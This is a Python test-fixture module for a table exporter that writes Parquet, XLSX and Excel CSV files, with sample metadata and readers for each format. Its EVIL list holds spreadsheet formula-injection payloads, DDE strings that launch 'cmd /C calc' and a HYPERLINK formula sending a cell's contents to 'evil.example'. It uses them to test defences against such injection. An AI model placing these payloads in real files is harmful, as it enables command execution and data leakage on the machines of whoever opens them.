"""Tables for the tests of files: terms easy to write, texts that spoil, readers of each file."""

import csv
import io
import re

import fastexcel
import polars as pl
import pyoxigraph as ox

from queries.columns import XSD
from queries.engine import Table, Term
from queries.origin import Origin
from queries.tables import TableFormat, write_table

QUERY = "# Towns\nSELECT ?code WHERE { ?town ?p ?code }"
ORIGIN = Origin(
    slug="towns",
    title={"fr": "Les villes", "en": "The towns"},
    question={"fr": "Quelles villes ?", "en": "Which towns?"},
    parameters={"territory": "37261", "word": "=1+1"},
    address="http://example.org/query/towns?territory=37261",
    version="5947bc23bec5fccf",
    date="2026-11-24",
    licences={"https://spdx.org/licenses/etalab-2.0": ("cog/2026", "acv/2018-10")},
    query=QUERY,
)
EVIL = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    " =1+1",
    "＝1+1",
    "\"&cmd|' /C calc'!A0&\"=1",
    '=1" & A1 & "',
]
TEXTS = [
    "01004",
    "2A004",
    "",
    "Château-Thierry",
    'dit « le "Grand" »',
    "a;b,c",
    "one\ntwo",
    "🏘️",
    "1e5",
    "mars 2024",
    "VRAI",
    "_x0041_",
    *EVIL,
]


def typed(text: str, name: str) -> ox.Literal:
    return ox.Literal(text, datatype=ox.NamedNode(XSD + name))


def column(*terms: Term | None) -> Table:
    return Table(("x",), tuple((term,) for term in terms))


def parquet(table: Table) -> pl.DataFrame:
    return pl.read_parquet(io.BytesIO(write_table(table, TableFormat.PARQUET, ORIGIN)))


def sheet(table: Table, name: str = "towns") -> list[dict[str, object]]:
    body = write_table(table, TableFormat.XLSX, ORIGIN)
    return fastexcel.read_excel(body).load_sheet(name).to_polars().to_dicts()


def excel_csv(table: Table) -> list[list[str]]:
    text = write_table(table, TableFormat.EXCEL_CSV, ORIGIN).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def as_excel_shows(cell: str) -> str:
    """Give the value of a cell that is a formula of one constant text, or the cell itself."""
    constant = re.fullmatch(r'="((?:[^"]|"")*)"', cell)
    return constant[1].replace('""', '"') if constant else cell
